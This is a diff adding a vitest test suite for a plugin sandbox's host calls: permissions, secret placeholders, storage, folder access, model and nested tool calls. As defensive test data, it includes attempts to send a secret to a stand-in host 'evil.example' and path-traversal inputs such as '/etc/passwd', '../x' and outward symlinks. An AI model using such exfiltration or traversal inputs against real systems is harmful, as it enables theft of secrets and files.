@@ -1,0 +1,322 @@
+import { mkdir, mkdtemp, readFile, rm, symlink, writeFile, readdir, link } from 'node:fs/promises';
+import { execFileSync } from 'node:child_process';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import fc from 'fast-check';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { AppError } from '../../../contract/errors/app-error.ts';
+import type { ToolEffect } from '../../../contract/manifest/index.ts';
+import type { GuardedRequest, GuardPolicy } from '../../../main/core/base/http/index.ts';
+import type { RunContext } from '../../../main/core/engine/runs/index.ts';
+import { createTools, createToolSession, type Tools, type ToolSession } from '../../../main/core/engine/tools/index.ts';
+import type { HostCalls } from '../../../sandbox/host/index.ts';
+import { scriptedModel, TestPlugins, type ScriptedModel } from '../agents/workshop.ts';
+import { openTestHome, type TestHome } from '../runs/home.ts';
+
+const PLUGIN = 'dev.test.caller';
+const OTHER = 'dev.test.other';
+const SECRET = 'sk-"very/secret"+1';
+
+let home: TestHome;
+let folder: string;
+let plugins: TestPlugins;
+let model: ScriptedModel;
+let asked: { request: GuardedRequest; policy: GuardPolicy }[];
+let emitted: { type: string; data: unknown }[];
+let questions: number;
+let answer: 'allow' | 'deny';
+let tools: Tools;
+let session: ToolSession;
+let reply: { status: number; url?: string; body: Uint8Array };
+/** What the tool does with the calls it was given. */
+let act: (calls: HostCalls, signal: AbortSignal) => Promise<unknown>;
+
+beforeAll(async () => { home = await openTestHome(); });
+afterAll(async () => { await home.close(); });
+
+beforeEach(async () => {
+  folder = await mkdtemp(path.join(tmpdir(), 'troupe-folder-'));
+  [plugins, asked, emitted, questions, answer] = [new TestPlugins(), [], [], 0, 'allow'];
+  reply = { status: 200, body: new TextEncoder().encode('hello') };
+  model = scriptedModel(() => ({ text: '{"n": 1}' }));
+  act = () => Promise.resolve(null);
+  tools = createTools({
+    plugins, store: home.store, userSalt: 'salt',
+    secrets: { withSecret: (_plugin, key, use) => (key === 'api_key' ? Promise.resolve(use(SECRET)) : Promise.reject(new AppError('credentials/not-found', 'Not entered.'))) },
+    http: { guardedFetch: (request, policy) => { asked.push({ request, policy }); return Promise.resolve({ status: reply.status, statusText: 'OK', url: reply.url ?? request.url, headers: [['x', 'y']], body: reply.body }); } },
+    sandbox: { run: async (request) => {
+      const inner = request.entry.kind === 'tool' && request.entry.tool === 'inner';
+      return { output: inner ? { got: request.input, depth: request.depth } : await act(request.hostCalls, request.signal ?? new AbortController().signal), logs: [], metrics: { wallMs: 1, cpuMs: 1, hostCalls: 1 } };
+    } },
+  });
+  let id = 0;
+  const context = {
+    run: { id: 'run', conversationId: null, hireId: null }, past: [], signal: new AbortController().signal, clock: { now: () => 1 }, ids: { next: () => `i${id += 1}` }, limits: {},
+    emit: (type: string, data: unknown) => { emitted.push({ type, data }); return `e${emitted.length}`; }, durable: () => Promise.resolve(), stream: () => undefined,
+    ask: () => { questions += 1; return Promise.resolve({ decision: answer, scope: 'once' }); }, keptApproval: () => Promise.resolve(undefined),
+  } as unknown as RunContext;
+  session = createToolSession(context, () => Promise.resolve(model));
+  return () => rm(folder, { recursive: true, force: true });
+});
+
+const installed = (grants: readonly string[], effect: ToolEffect = 'write'): void => {
+  plugins.add(PLUGIN, { grants, manifest: { capabilities: { tools: [{ id: 'outer', name: 'Outer', description: 'Calls the host.', effect }, { id: 'mine', name: 'Mine', description: 'Another own tool.', effect: 'read' }] } }, files: { 'dist/plugin.js': '' } });
+};
+/** Calls the tool, which makes one host call, and answers what that gave or threw. */
+async function use(grants: readonly string[], name: string, args: unknown, effect: ToolEffect = 'write'): Promise<unknown> {
+  installed(grants, effect);
+  let outcome: unknown;
+  act = async (calls, signal) => {
+    outcome = await calls.call(name as never, args, signal).then((value) => ({ value }), (error: unknown) => ({ error }));
+    return null;
+  };
+  const tool = await tools.find(`${PLUGIN}/outer`);
+  const { error } = await tools.invoke(session, tool, { callId: 'c1', input: {}, depth: 1, readOnly: false, standing: 'approved', signal: session.context.signal });
+  expect(error).toBeNull();
+  const made = outcome as { value: unknown } | { error: unknown };
+  if ('error' in made) throw made.error;
+  return made.value;
+}
+const refused = (permission: string) => expect.objectContaining({ code: 'permission/denied', details: { permission } });
+const get = (url: string, more: object = {}) => ({ url, method: 'GET', headers: [], redirect: 'follow', ...more });
+const FOLDERS = ['folder:data:read', 'folder:out:write'];
+const pick = (): void => {
+  plugins.folders.set(`${PLUGIN} data`, { path: folder, access: 'read' });
+  plugins.folders.set(`${PLUGIN} out`, { path: folder, access: 'write' });
+};
+
+describe('I2 every host call needs its permission and names it', () => {
+  it.each([
+    ['secret', { key: 'api_key' }, 'secret:api_key'],
+    ['storage.get', { key: 'a' }, 'storage'], ['storage.set', { key: 'a', value: 1 }, 'storage'], ['storage.delete', { key: 'a' }, 'storage'], ['storage.list', { prefix: '' }, 'storage'],
+    ['files.list', { key: 'data', path: '' }, 'folder:data:read'], ['files.readText', { key: 'data', path: 'a' }, 'folder:data:read'], ['files.readBytes', { key: 'data', path: 'a' }, 'folder:data:read'],
+    ['files.writeText', { key: 'data', path: 'a', text: 'x' }, 'folder:data:write'], ['files.remove', { key: 'data', path: 'a' }, 'folder:data:write'],
+    ['model.complete', { messages: [{ role: 'user', content: 'x' }] }, 'models'], ['tools.call', { name: `${OTHER}/inner`, input: {} }, `tools:${OTHER}/inner`],
+  ])('%s without its grant', async (name, args, permission) => {
+    pick();
+    await expect(use([], name, args)).rejects.toEqual(refused(permission));
+    await expect(use(['network:a.example', 'folder:datax:read', 'secret:other@a.example', 'tools:dev.test.oth/*'], name, args)).rejects.toEqual(refused(permission));
+  });
+
+  it.each(['fetch', 'secret', 'storage.set', 'files.readText', 'model.complete', 'tools.call', 'progress', 'sleep'])('%s refuses arguments of another shape', async (name) => {
+    const all = ['storage:1000', 'models:5', 'folder:data:read', 'secret:k@a.example'];
+    for (const args of [null, 5, [], { key: 5 }, { __proto__: null, extra: 1 }, { key: 'a', fraction: 7, ms: -1, more: true }]) await expect(use(all, name, args)).rejects.toMatchObject({ code: 'core/bad-input' });
+  });
+
+  it('knows no other call', async () => {
+    for (const name of ['constructor', '__proto__', 'toString', 'files']) await expect(use([], name, {})).rejects.toMatchObject({ code: 'core/unknown-procedure' });
+  });
+
+  it('progress and sleep need none', async () => {
+    expect(await use([], 'progress', { fraction: 0.5, message: 'half' })).toBeNull();
+    expect(emitted.some((event) => event.type === 'tool_usage_progressed')).toBe(true);
+    expect(await use([], 'sleep', { ms: 1 })).toBeNull();
+  });
+});
+
+describe('fetch and secrets', () => {
+  it('hands the granted hosts to the guard, private ones apart, and lets a reading tool only read', async () => {
+    const grants = ['network:api.example.com', 'network:http://127.0.0.1:9', 'storage:10'];
+    expect(await use(grants, 'fetch', get('https://api.example.com/x', { headers: [['accept', 'a/b']] }), 'read')).toEqual({ url: 'https://api.example.com/x', status: 200, statusText: 'OK', headers: [['x', 'y']], redirected: false, encoding: 'utf8', body: 'hello' });
+    expect(asked[0]?.policy).toMatchObject({ hosts: ['api.example.com', 'http://127.0.0.1:9'], allowPrivate: ['http://127.0.0.1:9'], readOnly: true });
+    await use(grants, 'fetch', get('https://api.example.com/x', { method: 'POST', encoding: 'base64', body: 'AAH/' }), 'write');
+    expect(asked[1]?.policy.readOnly).toBe(false);
+    expect([...(asked[1]?.request.body ?? [])]).toEqual([0, 1, 255]);
+    reply.body = new Uint8Array([0xff, 0xfe, 0]);
+    expect(await use(grants, 'fetch', get('https://api.example.com/x'))).toMatchObject({ encoding: 'base64', body: '//4A' });
+  });
+
+  it('gives a placeholder, and fills the value in on the way to a granted host, escaped for its place', async () => {
+    const grants = ['network:api.example.com', 'network:evil.example', 'secret:api_key@api.example.com'];
+    const token = await use(grants, 'secret', { key: 'api_key' }) as string;
+    expect(token).not.toContain(SECRET);
+    const url = new URL('https://api.example.com/v1?x=1');
+    url.searchParams.set('key', token);
+    await use(grants, 'fetch', { ...get(url.href), method: 'POST', headers: [['authorization', `Bearer ${token}`], ['content-type', 'application/json']], body: JSON.stringify({ key: token }) });
+    const { request } = asked.at(-1) as { request: GuardedRequest };
+    expect(request.headers).toContainEqual(['authorization', `Bearer ${SECRET}`]);
+    expect(new URL(request.url).searchParams.get('key')).toBe(SECRET);
+    expect(JSON.parse(new TextDecoder().decode(request.body))).toEqual({ key: SECRET });
+    const form = new URLSearchParams({ key: token });
+    await use(grants, 'fetch', { ...get('https://api.example.com/'), method: 'POST', headers: [['content-type', 'application/x-www-form-urlencoded']], body: form.toString() });
+    expect(new URLSearchParams(new TextDecoder().decode(asked.at(-1)?.request.body)).get('key')).toBe(SECRET);
+    // Where it was not granted it does not go, in any place.
+    for (const bad of [{ headers: [['x', token]] }, { url: `https://evil.example/?q=${encodeURIComponent(token)}` }, { method: 'POST', body: `a${token}` }]) {
+      await expect(use(grants, 'fetch', { ...get('https://evil.example/'), ...bad })).rejects.toEqual(refused('secret:api_key@evil.example'));
+    }
+    expect(asked).toHaveLength(2);
+    reply.url = `https://api.example.com/next?key=${encodeURIComponent(SECRET)}`;
+    const answered = await use(grants, 'fetch', get(url.href)) as { url: string };
+    expect(JSON.stringify(answered)).not.toContain(encodeURIComponent(SECRET));
+    expect(JSON.stringify(emitted)).not.toContain('very');
+  });
+
+  it('gives the raw value only with the permission for that, and says what was not entered', async () => {
+    expect(await use(['secret_read:api_key'], 'secret', { key: 'api_key' })).toBe(SECRET);
+    await expect(use(['secret_read:gone'], 'secret', { key: 'gone' })).rejects.toMatchObject({ code: 'credentials/not-found' });
+    await expect(use(['network:a.example'], 'fetch', get('https://a.example/', { redirect: 'manual' }))).rejects.toMatchObject({ code: 'core/bad-input' });
+    await expect(use([], 'fetch', get('nonsense'))).rejects.toMatchObject({ code: 'core/bad-input' });
+    reply.url = 'https://a.example/other';
+    await expect(use(['network:a.example'], 'fetch', get('https://a.example/', { redirect: 'error' }))).rejects.toMatchObject({ code: 'core/unreachable' });
+  });
+});
+
+describe('storage', () => {
+  it('keeps values within the quota, apart for each plugin, and only writes when the tool may', async () => {
+    const grants = ['storage:60'];
+    expect(await use(grants, 'storage.get', { key: 'a' })).toBeNull();
+    await use(grants, 'storage.set', { key: 'a%', value: { n: [1, null] } });
+    await use(grants, 'storage.set', { key: 'ab', value: 'x' });
+    expect(await use(grants, 'storage.get', { key: 'a%' })).toEqual({ n: [1, null] });
+    expect(await use(grants, 'storage.list', { prefix: 'a%' })).toEqual(['a%']);
+    await expect(use(grants, 'storage.set', { key: 'big', value: 'x'.repeat(60) })).rejects.toEqual(refused('storage:60'));
+    await use(grants, 'storage.set', { key: 'a%', value: 'y'.repeat(40) });
+    expect(await use(grants, 'storage.list', {}, 'read')).toEqual(['a%', 'ab']);
+    await expect(use(grants, 'storage.set', { key: 'c', value: 1 }, 'read')).rejects.toEqual(refused('effect:write'));
+    await expect(use(grants, 'storage.delete', { key: 'ab' }, 'read')).rejects.toEqual(refused('effect:write'));
+    await use(grants, 'storage.delete', { key: 'ab' });
+    expect(await use(grants, 'storage.list', { prefix: '' })).toEqual(['a%']);
+    expect(await home.store.read('pluginStorageKeys', { pluginId: OTHER, prefix: '' })).toEqual([]);
+    await use(grants, 'storage.delete', { key: 'a%' });
+  });
+});
+
+describe('A9 files in granted folders', () => {
+  it('lists, reads, writes and removes inside, each with its access', async () => {
+    pick();
+    await mkdir(path.join(folder, 'sub'));
+    await writeFile(path.join(folder, 'sub', 'a.txt'), 'äöü');
+    expect(await use(FOLDERS, 'files.list', { key: 'data', path: '' })).toEqual([{ name: 'sub', kind: 'folder', size: 0 }]);
+    expect(await use(FOLDERS, 'files.list', { key: 'data', path: 'sub' })).toEqual([{ name: 'a.txt', kind: 'file', size: 6 }]);
+    expect(await use(FOLDERS, 'files.readText', { key: 'data', path: './sub//a.txt' })).toBe('äöü');
+    expect(await use(FOLDERS, 'files.readBytes', { key: 'out', path: 'sub/a.txt' })).toBe(Buffer.from('äöü').toString('base64'));
+    await use(FOLDERS, 'files.writeText', { key: 'out', path: 'new/deep/b.txt', text: 'one' });
+    await use(FOLDERS, 'files.writeText', { key: 'out', path: 'new/deep/b.txt', text: 'two' });
+    expect(await readFile(path.join(folder, 'new/deep/b.txt'), 'utf8')).toBe('two');
+    expect(await readdir(path.join(folder, 'new/deep'))).toEqual(['b.txt']);
+    await use(FOLDERS, 'files.remove', { key: 'out', path: 'new/deep/b.txt' });
+    await expect(use(FOLDERS, 'files.readText', { key: 'data', path: 'new/deep/b.txt' })).rejects.toMatchObject({ code: 'tools/not-found' });
+    await expect(use(FOLDERS, 'files.readText', { key: 'data', path: 'sub' })).rejects.toMatchObject({ code: 'core/bad-input' });
+    await expect(use(FOLDERS, 'files.remove', { key: 'out', path: 'sub' })).rejects.toMatchObject({ code: 'core/bad-input' });
+    await expect(use(FOLDERS, 'files.writeText', { key: 'out', path: '', text: '' })).rejects.toMatchObject({ code: 'core/bad-input' });
+    for (const name of ['files.writeText', 'files.remove']) {
+      await expect(use(FOLDERS, name, { key: 'data', path: 'sub/a.txt', ...(name === 'files.writeText' ? { text: 'x' } : {}) })).rejects.toEqual(refused('folder:data:write'));
+      await expect(use(FOLDERS, name, { key: 'out', path: 'sub/a.txt', ...(name === 'files.writeText' ? { text: 'x' } : {}) }, 'read')).rejects.toEqual(refused('effect:write'));
+    }
+    plugins.folders.set(`${PLUGIN} out`, { path: folder, access: 'read' });
+    await expect(use(FOLDERS, 'files.writeText', { key: 'out', path: 'x', text: '' })).rejects.toEqual(refused('folder:out:write'));
+    plugins.folders.clear();
+    await expect(use(FOLDERS, 'files.list', { key: 'data', path: '' })).rejects.toMatchObject({ code: 'permission/denied', message: expect.stringContaining('No folder was picked') });
+    plugins.folders.set(`${PLUGIN} data`, { path: path.join(folder, 'gone'), access: 'read' });
+    await expect(use(FOLDERS, 'files.list', { key: 'data', path: '' })).rejects.toMatchObject({ code: 'tools/not-found' });
+  });
+
+  it.each(['../x', 'a/../../x', '/etc/passwd', '..', 'sub/..', 'a\\..\\b', 'C:\\x', 'c:x', 'a\0b', 'x'.repeat(5000)])('refuses the path %j', async (bad) => {
+    pick();
+    for (const name of ['files.readText', 'files.list', 'files.writeText', 'files.remove']) {
+      await expect(use(FOLDERS, name, { key: 'out', path: bad, ...(name === 'files.writeText' ? { text: 'x' } : {}) })).rejects.toSatisfy((error: { code: string }) => error.code === 'permission/denied' || error.code === 'core/bad-input');
+    }
+  });
+
+  it('never leaves the folder, whatever path a plugin draws up', async () => {
+    pick();
+    const outside = await mkdtemp(path.join(tmpdir(), 'troupe-outside-'));
+    await writeFile(path.join(outside, 'secret.txt'), 'secret');
+    await symlink(outside, path.join(folder, 'way-out'));
+    const part = fc.constantFrom('..', '.', '', 'way-out', 'secret.txt', 'a', '…', ' ', '%2e%2e', path.basename(outside), '~');
+    await fc.assert(fc.asyncProperty(fc.array(part, { maxLength: 6 }).map((parts) => parts.join('/')), async (drawn) => {
+      const read = await use(FOLDERS, 'files.readText', { key: 'out', path: drawn }).catch(() => '');
+      expect(read).not.toContain('secret');
+      await use(FOLDERS, 'files.writeText', { key: 'out', path: drawn, text: 'mine' }).catch(() => null);
+      await use(FOLDERS, 'files.remove', { key: 'out', path: drawn }).catch(() => null);
+      expect(await readdir(outside)).toEqual(['secret.txt']);
+    }), { numRuns: 60 });
+    await rm(outside, { recursive: true });
+  });
+
+  it('refuses links that lead out, in any place, and does not wait for pipes', async () => {
+    pick();
+    const outside = await mkdtemp(path.join(tmpdir(), 'troupe-outside-'));
+    await writeFile(path.join(outside, 'secret.txt'), 'secret');
+    await symlink(outside, path.join(folder, 'dir'));
+    await symlink(path.join(outside, 'secret.txt'), path.join(folder, 'file'));
+    await symlink(path.join(outside, 'not-there'), path.join(folder, 'dangling'));
+    await writeFile(path.join(folder, 'real.txt'), 'real');
+    await symlink(path.join(folder, 'real.txt'), path.join(folder, 'inside'));
+    await link(path.join(folder, 'real.txt'), path.join(folder, 'hard'));
+    execFileSync('mkfifo', [path.join(folder, 'pipe')]);
+    for (const bad of ['dir/secret.txt', 'file']) {
+      await expect(use(FOLDERS, 'files.readText', { key: 'data', path: bad })).rejects.toEqual(refused('folder'));
+      await expect(use(FOLDERS, 'files.writeText', { key: 'out', path: bad, text: 'x' })).rejects.toEqual(refused('folder'));
+      await expect(use(FOLDERS, 'files.remove', { key: 'out', path: bad })).rejects.toEqual(refused('folder'));
+    }
+    await expect(use(FOLDERS, 'files.list', { key: 'data', path: 'dir' })).rejects.toEqual(refused('folder'));
+    await expect(use(FOLDERS, 'files.writeText', { key: 'out', path: 'dir/new/x', text: 'x' })).rejects.toEqual(refused('folder'));
+    await expect(use(FOLDERS, 'files.writeText', { key: 'out', path: 'dangling', text: 'x' })).rejects.toEqual(refused('folder'));
+    await expect(use(FOLDERS, 'files.readText', { key: 'data', path: 'pipe' })).rejects.toMatchObject({ code: 'core/bad-input' });
+    expect(await use(FOLDERS, 'files.readText', { key: 'data', path: 'inside' })).toBe('real');
+    expect((await use(FOLDERS, 'files.list', { key: 'data', path: '' }) as { name: string }[]).map((entry) => entry.name)).toEqual(['hard', 'real.txt']);
+    expect([await readdir(outside), await readFile(path.join(outside, 'secret.txt'), 'utf8')]).toEqual([['secret.txt'], 'secret']);
+    await rm(outside, { recursive: true });
+  });
+
+  it('does not say where the folder lies', async () => {
+    pick();
+    for (const args of [{ key: 'data', path: 'none' }, { key: 'data', path: '../x' }]) {
+      const error = await use(FOLDERS, 'files.readText', args).catch((thrown: AppError) => thrown) as AppError;
+      expect(error.message + JSON.stringify(error.details)).not.toContain(folder);
+    }
+  });
+});
+
+describe('model.complete', () => {
+  it('asks the model of the run as often as was granted, and is recorded', async () => {
+    const request = { messages: [{ role: 'user', content: 'x' }, { role: 'assistant', content: '', tool_calls: [{ id: 't', name: 'f', arguments: {} }] }, { role: 'tool', content: 'r', tool_call_id: 't' }], schema: { type: 'object', required: ['n'] }, max_tokens: 9 };
+    expect(await use(['models:2'], 'model.complete', request)).toEqual({ text: '{"n": 1}', tool_calls: [], object: { n: 1 }, usage: { input_tokens: 10, output_tokens: 5 } });
+    expect(model.requests[0]).toMatchObject({ maxTokens: 9, responseSchema: { name: 'answer' } });
+    expect(model.requests[0]?.messages[2]?.parts[0]).toMatchObject({ type: 'tool_result', callId: 't', name: 'f' });
+    expect(emitted.find((event) => event.type === 'tool_model_call_finished')?.data).toMatchObject({ callId: 'c1', pluginId: PLUGIN, text: '{"n": 1}', usage: { totalTokens: 15 } });
+    await expect(use(['models:2'], 'model.complete', { ...request, schema: { required: ['other'] } })).rejects.toMatchObject({ code: 'models/bad-answer' });
+    await expect(use(['models:2'], 'model.complete', request)).rejects.toEqual(refused('models:2'));
+    await expect(use(['models:9'], 'model.complete', { messages: [{ role: 'tool', content: 'r', tool_call_id: 'none' }] })).rejects.toMatchObject({ code: 'core/bad-input' });
+  });
+});
+
+describe('tools.call', () => {
+  const other = (effect: ToolEffect): void => { plugins.add(OTHER, { manifest: { capabilities: { tools: [{ id: 'inner', name: 'Inner', description: 'D', effect, input: { type: 'object', properties: { n: { type: 'number' } } } }] } }, files: { 'dist/plugin.js': '' } }); };
+
+  it('needs the caller\'s grant, exact or for all of a plugin, and records the call below the first', async () => {
+    other('read');
+    for (const grant of [`tools:${OTHER}/inner`, `tools:${OTHER}/*`]) expect(await use([grant], 'tools.call', { name: `${OTHER}/inner`, input: { n: 1 } })).toEqual({ got: { n: 1 }, depth: 2 });
+    expect(await use(['tools:builtin.calculator'], 'tools.call', { name: 'builtin.calculator', input: { expression: '2*3' } })).toEqual({ result: 6 });
+    const started = emitted.filter((event) => event.type === 'tool_usage_started').map((event) => (event.data as { callId: string }).callId);
+    expect(started.slice(0, 4)).toEqual(['c1', 'c1/1', 'c1', 'c1/2']);
+    await expect(use([`tools:${OTHER}/*`], 'tools.call', { name: `${OTHER}/inner`, input: { n: 'x' } })).rejects.toMatchObject({ code: 'tools/bad-arguments' });
+    await expect(use([`tools:${OTHER}/*`], 'tools.call', { name: `${OTHER}/gone`, input: {} })).rejects.toMatchObject({ code: 'tools/not-found' });
+  });
+
+  it('asks the person like any call, and a tool that reads cannot use one that writes', async () => {
+    other('write');
+    const grants = [`tools:${OTHER}/*`];
+    await use(grants, 'tools.call', { name: `${OTHER}/inner`, input: {} });
+    expect(questions).toBe(1);
+    answer = 'deny';
+    await expect(use(grants, 'tools.call', { name: `${OTHER}/inner`, input: {} })).rejects.toMatchObject({ code: 'permission/denied' });
+    await expect(use(grants, 'tools.call', { name: `${OTHER}/inner`, input: {} }, 'read')).rejects.toMatchObject({ code: 'permission/denied', message: expect.stringContaining('only reads') });
+    expect(questions).toBe(2);
+  });
+
+  it('goes at most four deep', async () => {
+    installed([]);
+    let depth = 0;
+    const outcomes: unknown[] = [];
+    act = async (calls, signal) => {
+      depth += 1;
+      await calls.call('tools.call', { name: 'mine', input: {} }, signal).catch((error: unknown) => { outcomes.push(error); });
+      return null;
+    };
+    await tools.invoke(session, await tools.find(`${PLUGIN}/mine`), { callId: 'c1', input: {}, depth: 1, readOnly: false, standing: 'fresh', signal: session.context.signal });
+    expect(depth).toBe(4);
+    expect(outcomes).toEqual([expect.objectContaining({ code: 'tools/too-deep' })]);
+  });
+});
